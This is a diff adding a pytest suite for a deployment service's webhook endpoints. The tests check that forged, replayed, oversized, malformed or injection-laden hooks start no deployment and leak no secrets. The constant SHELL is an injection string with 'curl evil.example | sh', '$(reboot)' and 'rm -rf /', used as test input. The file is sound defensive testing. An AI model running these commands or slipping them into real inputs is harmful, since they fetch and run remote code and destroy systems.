@@ -1,0 +1,433 @@
+"""What strangers send: nothing of it starts anything, or holds anyone up."""
+
+import asyncio
+import itertools
+import json
+import logging
+import time
+from ipaddress import ip_network
+from typing import Any
+
+import pytest
+
+from msrv.deployer.desk import client_of
+from msrv.deployer.keys import DESK
+from msrv.settings import Network
+from tests.deployer.conftest import (
+    GENERIC,
+    NOW,
+    REGISTRY,
+    SECRET,
+    TOKEN,
+    House,
+    dockerhub_body,
+)
+
+SHELL = "latest; curl evil.example | sh #$(reboot)`id`\n&& rm -rf /"
+BODY = b'{"repository": "wetcoats/msrv", "tag": "latest"}'
+
+
+async def settle(house: House) -> None:
+    """Let the queue do what it has."""
+    for _ in range(20):
+        await asyncio.sleep(0.005)
+    assert house.client.app
+
+
+async def test_a_genuine_hook_starts_one(house: House) -> None:
+    """A push is never deployed."""
+    answer = await house.dockerhub()
+    assert answer.status == 202
+    made = (await answer.json())["id"]
+    await settle(house)
+    assert [each.id for each in house.begun] == [made]
+
+
+async def test_ten_thousand_forged_hooks_start_nothing_and_delay_nobody(
+    house: House,
+) -> None:
+    """Whoever knows the address can keep updates from happening."""
+    took: list[float] = []
+
+    async def forge(numbers: "itertools.count[int]") -> None:
+        while (number := next(numbers)) < 10_000:
+            client = f"192.0.{number % 200}.{number % 7}"
+            match number % 3:
+                case 0:
+                    answer = await house.dockerhub(
+                        secret="wrong", client=client
+                    )
+                case 1:
+                    answer = await house.generic(
+                        BODY, key="wrong", client=client
+                    )
+                case _:
+                    answer = await house.registry({}, token="wrong")
+            assert answer.status in {404, 429}
+
+    async def genuine() -> None:
+        for _ in range(5):
+            await asyncio.sleep(0.3)
+            began = time.monotonic()
+            # From the very address of the forgers, too.
+            answer = await house.dockerhub(client="192.0.1.1")
+            took.append(time.monotonic() - began)
+            assert answer.status == 202
+
+    numbers = itertools.count()
+    await asyncio.gather(genuine(), *(forge(numbers) for _ in range(50)))
+    await settle(house)
+    assert all(each.cause == "dockerhub" for each in house.begun)
+    assert len(house.begun) <= 5
+    assert max(took) < 1
+    # What is remembered of strangers is bounded.
+    assert len(house.client.app[DESK]._forged) <= 4096
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/hooks/dockerhub/store/wrong-secret-of-some-length",
+        f"/hooks/dockerhub/nobody/{SECRET}",
+        f"/hooks/dockerhub/bare/{SECRET}",
+        f"/hooks/dockerhub/github/{SECRET}",
+        "/hooks/dockerhub/store/%00",
+        "/hooks/dockerhub/store/%F0%9F%92%A9",
+        "/hooks/generic/store",
+        "/hooks/generic/nobody",
+        "/hooks/registry/store",
+        "/hooks/registry/github",
+        "/hooks/else/store",
+        "/nothing",
+    ],
+)
+async def test_a_wrong_secret_is_a_404_and_nothing_else(
+    house: House, path: str
+) -> None:
+    """An answer tells a stranger which targets there are."""
+    answer = await house.client.post(path, data=BODY)
+    nothing = await house.client.post("/", data=BODY)
+    assert (answer.status, await answer.text()) == (404, "404: Not Found")
+    assert {*answer.headers} == {*nothing.headers}
+    await settle(house)
+    assert house.begun == []
+
+
+async def test_who_forges_on_is_told_to_wait(house: House) -> None:
+    """One address can ask for ever."""
+    statuses = [
+        (await house.dockerhub(secret="wrong")).status for _ in range(40)
+    ]
+    assert statuses == [404] * 30 + [429] * 10
+    answer = await house.dockerhub(secret="wrong")
+    assert int(answer.headers["Retry-After"]) >= 1
+    house.ticks[0] += 10
+    assert (await house.dockerhub(secret="wrong")).status == 404
+
+
+async def test_a_target_is_not_asked_too_often(house: House) -> None:
+    """Whoever has the secret can keep the machine busy for ever."""
+    statuses = [(await house.dockerhub()).status for _ in range(30)]
+    assert statuses == [202] * 20 + [429] * 10
+    answer = await house.dockerhub()
+    assert int(answer.headers["Retry-After"]) >= 1
+
+
+async def test_a_burst_is_one_deployment(house: House) -> None:
+    """Twenty hooks for one push restart the store twenty times."""
+    house.may_end.clear()
+    first = await (await house.dockerhub()).json()
+    await settle(house)
+    rest = [await (await house.dockerhub()).json() for _ in range(19)]
+    house.may_end.set()
+    await settle(house)
+    # One ran when the others came; those are one more.
+    assert len({each["id"] for each in rest}) == 1
+    assert [each.id for each in house.begun] == [first["id"], rest[0]["id"]]
+
+
+async def test_a_replay_starts_nothing(house: House) -> None:
+    """Who has seen one genuine hook can have updates made."""
+    first = await (await house.generic(BODY)).json()
+    again = await house.generic(BODY)
+    assert again.status == 202
+    assert (await again.json())["state"] == "ignored"
+    await settle(house)
+    assert [each.id for each in house.begun] == [first["id"]]
+
+
+async def test_a_replay_of_yesterday_is_refused(house: House) -> None:
+    """A hook that was caught can be used for ever."""
+    answer = await house.generic(BODY, at=NOW - 3600)
+    assert answer.status == 404
+    answer = await house.generic(BODY, at=NOW + 3600)
+    assert answer.status == 404
+
+
+@pytest.mark.parametrize(
+    "timestamp", ["", "soon", "-1", "1e9", "\uff11\uff18", "9" * 400]
+)
+async def test_a_timestamp_that_is_none(house: House, timestamp: str) -> None:
+    """A time that can't be read counts as any time."""
+    answer = await house.client.post(
+        "/hooks/generic/store",
+        data=BODY,
+        headers={
+            "X-Hub-Signature-256": "sha256=" + "0" * 64,
+            "X-MSRV-Timestamp": timestamp,
+        },
+    )
+    assert answer.status == 404
+
+
+async def test_githubs_own_form_only_where_it_is_wanted(
+    house: House,
+) -> None:
+    """A target that wants a time is fooled by leaving it out."""
+    assert (await house.generic(BODY, at=None)).status == 404
+    body = json.dumps(
+        {
+            "action": "published",
+            "registry_package": {
+                "name": "MSRV",
+                "namespace": "wetcoats",
+                "package_version": {
+                    "container_metadata": {"tag": {"name": "latest"}}
+                },
+            },
+        }
+    ).encode()
+    answer = await house.generic(body, at=None, target="github")
+    assert answer.status == 202
+    assert (await answer.json())["state"] == "queued"
+    again = await house.generic(body, at=None, target="github")
+    assert (await again.json())["state"] == "ignored"
+
+
+async def test_shell_text_in_a_payload_is_text(
+    house: House, caplog: pytest.LogCaptureFixture
+) -> None:
+    """A tag becomes a command, or a second line of the log."""
+    caplog.set_level(logging.INFO)
+    for data in (
+        dockerhub_body(SHELL),
+        dockerhub_body(repository={"repo_name": SHELL}),
+        dockerhub_body(repository={"repo_name": "wetcoats/msrv" + SHELL}),
+    ):
+        answer = await house.dockerhub(data)
+        assert answer.status == 202
+        assert (await answer.json())["state"] == "ignored"
+    await settle(house)
+    assert house.begun == []
+    assert all("\n" not in each.getMessage() for each in caplog.records)
+
+
+@pytest.mark.parametrize("kind", ["dockerhub", "generic", "registry"])
+async def test_ten_megabytes_are_refused_unread(
+    house: House, kind: str
+) -> None:
+    """A body of any length is read into memory."""
+    path = {
+        "dockerhub": f"/hooks/dockerhub/store/{SECRET}",
+        "generic": "/hooks/generic/store",
+        "registry": "/hooks/registry/store",
+    }[kind]
+    reader, writer = await asyncio.open_connection(
+        "127.0.0.1", house.client.port
+    )
+    writer.write(
+        f"POST {path} HTTP/1.1\r\nHost: x\r\n"
+        f"Authorization: Bearer {REGISTRY}\r\n"
+        "Content-Length: 10485760\r\n\r\n".encode()
+    )
+    # Not a byte of the body is sent, and the answer is here.
+    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
+    assert b" 413 " in head
+    writer.close()
+    await writer.wait_closed()
+
+
+async def test_ten_megabytes_of_unsaid_length(house: House) -> None:
+    """A body that doesn't say how long it is has no limit."""
+
+    async def endless() -> Any:  # noqa: ANN401
+        for _ in range(160):
+            yield b" " * 65_536
+
+    answer = await house.client.post(
+        f"/hooks/dockerhub/store/{SECRET}", data=endless()
+    )
+    assert answer.status == 413
+
+
+async def test_a_forger_s_body_is_not_read_at_all(house: House) -> None:
+    """A stranger has the deployer wait for bodies."""
+    reader, writer = await asyncio.open_connection(
+        "127.0.0.1", house.client.port
+    )
+    writer.write(
+        b"POST /hooks/dockerhub/store/wrong HTTP/1.1\r\nHost: x\r\n"
+        b"Content-Length: 1000\r\n\r\n"
+    )
+    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
+    assert b" 404 " in head
+    writer.close()
+    await writer.wait_closed()
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"[" * 200_000,
+        b'{"a":' * 40_000,
+        b"",
+        b"null",
+        b"[]",
+        b"1e999999",
+        b'"text"',
+        b"\xff\xfe{}",
+        b'{"a": "\xed\xa0\x80"}',
+        b"9" * 20_000,
+        b"push_data=1",
+    ],
+    ids=lambda body: repr(body[:12]),
+)
+async def test_deep_or_broken_json_is_a_400(house: House, body: bytes) -> None:
+    """Odd JSON ends the deployer, or a 500 tells how it is made."""
+    answer = await house.dockerhub(body)
+    assert answer.status == 400
+    assert (await house.generic(body)).status == 400
+    await settle(house)
+    assert house.begun == []
+    assert (await house.client.get("/-/health")).status == 200
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        {},
+        {"push_data": None, "repository": None},
+        {"push_data": [], "repository": 5},
+        {"push_data": {"tag": 7}, "repository": {"repo_name": ["x"]}},
+        {"push_data": {"tag": "latest"}},
+        {"repository": {"repo_name": "wetcoats/msrv"}},
+        {
+            "push_data": {"tag": {"$ne": ""}},
+            "repository": {"repo_name": True},
+        },
+        {
+            "push_data": {"tag": "latest"},
+            "repository": {"repo_name": "evil/msrv"},
+        },
+        {
+            "push_data": {"tag": "other"},
+            "repository": {"repo_name": "wetcoats/msrv"},
+        },
+    ],
+)
+async def test_wrong_types_and_missing_keys_are_ignored(
+    house: House, data: dict[str, Any], caplog: pytest.LogCaptureFixture
+) -> None:
+    """A payload of another form is an error, or worse, a deployment."""
+    caplog.set_level(logging.INFO)
+    answer = await house.dockerhub(data)
+    assert answer.status == 202
+    assert (await answer.json())["state"] == "ignored"
+    await settle(house)
+    assert house.begun == []
+    assert "ignored a hook (dockerhub)" in caplog.text
+
+
+@pytest.mark.parametrize(
+    ("events", "state"),
+    [
+        ([], "ignored"),
+        (None, "ignored"),
+        ([1, "x", None, {}], "ignored"),
+        ([{"action": "pull", "target": {}}], "ignored"),
+        (
+            [{"action": "pull", "target": {"repository": "wetcoats/msrv"}}],
+            "ignored",
+        ),
+        (
+            [
+                {"action": "push", "target": {"digest": "sha256:0"}},
+                {
+                    "action": "push",
+                    "target": {
+                        "repository": "wetcoats/msrv",
+                        "tag": "latest",
+                    },
+                },
+            ],
+            "queued",
+        ),
+    ],
+)
+async def test_a_registry_s_events(
+    house: House, events: object, state: str
+) -> None:
+    """Each layer of a push is a deployment, or a push is none."""
+    answer = await house.registry({"events": events})
+    assert answer.status == 202
+    assert (await answer.json())["state"] == state
+
+
+async def test_other_networks_find_nothing(house: House) -> None:
+    """A list of networks lets others in."""
+    body = {
+        "push_data": {"tag": "latest"},
+        "repository": {"repo_name": "wetcoats/bare"},
+    }
+    options = {"target": "bare", "secret": f"another-{SECRET}"}
+    answer = await house.dockerhub(body, **options, client="198.51.100.1")
+    assert answer.status == 404
+    answer = await house.dockerhub(body, **options, client="203.0.113.9")
+    assert answer.status == 202
+
+
+def test_an_invented_address_is_nobody_s() -> None:
+    """Whoever writes X-Forwarded-For has any address that they like."""
+    trusted: tuple[Network, ...] = ()
+    assert str(client_of("192.0.2.1", ["10.0.0.1"], trusted)) == "192.0.2.1"
+    edge = ip_network("10.0.0.0/8")
+    found = client_of("10.0.0.2", ["203.0.113.9, 198.51.100.1"], (edge,))
+    assert str(found) == "198.51.100.1"
+    assert str(client_of("10.0.0.2", ["nonsense"], (edge,))) == "10.0.0.2"
+
+
+async def test_no_secret_is_ever_logged(
+    house: House, caplog: pytest.LogCaptureFixture
+) -> None:
+    """A log that is shown to someone opens the door to them."""
+    caplog.set_level(logging.DEBUG)
+    await house.dockerhub()
+    await house.dockerhub(b"nonsense")
+    await house.dockerhub(secret=SECRET[:-1])
+    await house.generic(BODY)
+    await house.registry({"events": []})
+    await house.ask("/deployments")
+    await settle(house)
+    # The test's server has an access log; the deployer's has none.
+    ours = [
+        str(vars(each))
+        for each in caplog.records
+        if each.name != "aiohttp.access"
+    ]
+    assert len(ours) >= 4
+    for secret in (SECRET[:-1], GENERIC, REGISTRY, TOKEN):
+        assert secret not in " ".join(ours)
+
+
+async def test_deployments_want_the_token(house: House) -> None:
+    """A stranger reads what runs, or takes the store back to a version."""
+    for path in ("/deployments", "/deployments/x", "/-/metrics"):
+        assert (await house.ask(path, "wrong")).status == 401
+    answer = await house.client.post("/rollback/store")
+    assert answer.status == 401
+    for _ in range(40):
+        answer = await house.ask("/deployments", "wrong")
+    assert answer.status == 429
+    # The operator is not kept out by that.
+    assert (await house.ask("/deployments")).status == 200
+    assert house.begun == []
